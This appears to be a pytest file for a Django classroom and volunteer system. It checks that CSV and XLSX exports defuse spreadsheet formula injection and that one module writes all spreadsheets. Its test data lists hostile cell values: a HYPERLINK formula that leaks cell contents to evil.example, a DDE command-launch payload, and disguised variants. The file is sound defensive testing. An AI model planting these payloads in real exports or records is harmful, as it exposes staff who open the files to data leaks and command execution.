"""Spreadsheet formula injection: every CSV and XLSX download goes through ``lib.exports``,
and no cell of any of them can start a formula, whatever a person typed into a name."""

import ast
import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from classroom import rules
from classroom.factories import ClassDayFactory, StudentFactory, UserFactory
from lib import exports
from volunteers.factories import VolunteerFactory
from volunteers.models import VolunteerAttendance

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&B2,"詳細")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000＝1+1",
    "＝HYPERLINK(\"https://evil.example\")",
    "＋1＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_risky_text_is_recognised_and_neutralised(text):
    assert exports.starts_a_formula(text)
    assert exports.spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["佐藤", "090-1234-5678", "-", "-3", "+1.5", "1,234", "a=b", "", " ", "メモ-1"])
def test_ordinary_values_are_left_alone(value):
    assert not exports.starts_a_formula(value)
    assert exports.spreadsheet_safe(value) == value


def test_numbers_stay_numbers():
    assert exports.spreadsheet_safe(-3) == -3 and exports.spreadsheet_safe(-1.5) == -1.5
    assert exports.spreadsheet_safe(None) == ""


def assert_csv_is_inert(response, hostile: list[str]) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert not exports.starts_a_formula(cell), cell
    text = "\n".join(",".join(row) for row in rows)
    for name in hostile:
        assert "'" + name in text, name  # kept, one apostrophe in front
    return rows


def assert_xlsx_is_inert(response, hostile: list[str]) -> None:
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula at all in the sheet
    sheet = load_workbook(io.BytesIO(response.content)).active
    seen = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and exports.starts_a_formula(cell.value):
                assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} is not marked as text"
            seen.append(str(cell.value))
    for name in hostile:
        assert any(name.strip() in value for value in seen), name  # shown as typed


def test_student_export_neutralises_hostile_names(staff_client, site):
    family, given, kana, nickname, school = (HOSTILE[0], HOSTILE[1], "＝カナ", HOSTILE[3], HOSTILE[8])
    StudentFactory(site=site, family_name=family, given_name=given, family_name_kana=kana,
                   nickname=nickname, school=school)
    StudentFactory(site=site, family_name="-", given_name="@evil")
    StudentFactory(site=site, family_name="@evil", given_name="太郎")
    url = reverse("classroom:student_export")
    rows = assert_csv_is_inert(staff_client.get(url, {"format": "csv"}), [school, "@evil 太郎", "- @evil"])
    assert any(cell.startswith(("'＝カナ", "'=カナ")) for row in rows for cell in row)  # kana may be normalised
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    assert_xlsx_is_inert(staff_client.get(url, {"format": "xlsx"}), [family, school, "@evil 太郎", "- @evil"])


def test_volunteer_hours_export_neutralises_hostile_names(staff_client, site):
    user = UserFactory(username="evil", last_name=HOSTILE[0], first_name="", roles=[rules.VOLUNTEER])
    tutor = VolunteerFactory(user=user, sites=[site])
    day = ClassDayFactory(site=site, date=dt.date(2025, 6, 3), start_time=dt.time(17), end_time=dt.time(20))
    VolunteerAttendance.objects.create(class_day=day, volunteer=tutor, arrived_at=dt.time(17),
                                       left_at=dt.time(18, 30))
    url = reverse("volunteers:volunteer_hours_export")
    rows = assert_csv_is_inert(staff_client.get(url, {"fy": 2025, "format": "csv"}), [HOSTILE[0]])
    assert any(row and row[0].startswith("'=HYPERLINK") for row in rows)
    response = staff_client.get(url, {"fy": 2025, "format": "xlsx"})
    assert_xlsx_is_inert(response, [HOSTILE[0]])
    numbers = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row
               if isinstance(c.value, int | float)]
    assert numbers  # hours are still numbers that can be summed


# --- one writer: nobody else writes CSV or spreadsheets ------------------------------------------

WRITER = Path(settings.BASE_DIR) / "lib" / "exports.py"
SPREADSHEET_MODULES = {"csv", "openpyxl", "xlsxwriter", "tablib", "xlwt", "pyexcel", "pandas"}
SPREADSHEET_TYPES = ("text/csv", "spreadsheetml", "ms-excel")


def _app_modules():
    """Every Python file of our own apps (the packages in INSTALLED_APPS under the project), lib, config and scripts."""
    base = Path(settings.BASE_DIR)
    roots = {base / "lib", base / "config", base / "scripts"}
    for app in apps.get_app_configs():
        path = Path(app.path)
        if base in path.parents and ".venv" not in path.parts:
            roots.add(path)
    for root in sorted(roots):
        yield from sorted(p for p in root.rglob("*.py") if "migrations" not in p.parts)


# Modules that read what people upload (an import), never write a spreadsheet: the csv reader and
# openpyxl's load_workbook are theirs to use.
READERS = {Path(settings.BASE_DIR) / "dataio" / "services" / "imports_read.py"}


def test_no_module_but_the_writer_writes_spreadsheets():
    offenders = []
    for path in _app_modules():
        if path == WRITER or path in READERS:
            continue
        source = path.read_text()
        for node in ast.walk(ast.parse(source)):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            offenders += [f"{path}: imports {n}" for n in names if n.split(".")[0] in SPREADSHEET_MODULES]
        offenders += [f"{path}: mentions {t}" for t in SPREADSHEET_TYPES if t in source]
    assert not offenders, "Use lib.exports for every CSV/XLSX download:\n" + "\n".join(offenders)
    assert WRITER.exists() and "csv.writer" in WRITER.read_text()
    assert all("writer" not in path.read_text() and "Workbook(" not in path.read_text() for path in READERS)
    assert {"lib", "classroom", "casework", "volunteers", "activities"} <= {p.relative_to(settings.BASE_DIR).parts[0]
                                                         for p in _app_modules()}
